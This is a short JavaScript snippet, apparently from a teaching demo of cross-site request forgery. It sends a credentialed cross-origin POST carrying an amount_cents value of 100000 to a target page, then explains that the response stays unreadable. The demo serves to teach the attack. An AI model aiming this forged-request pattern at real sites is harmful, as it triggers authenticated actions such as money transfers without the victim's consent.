// What a forger can do: send what a form could send, with the reader's cookies. The answer is hidden from it.

document.getElementById("here").textContent = location.origin;
const outcome = document.getElementById("outcome");
try {
  await fetch(document.body.dataset.target, {
    method: "POST",
    mode: "no-cors",
    credentials: "include",
    body: new URLSearchParams({ amount_cents: "100000" }),
  });
  outcome.textContent = "It was sent. A page of another origin can't read the answer.";
} catch {
  outcome.textContent = "The browser would not even send it.";
}
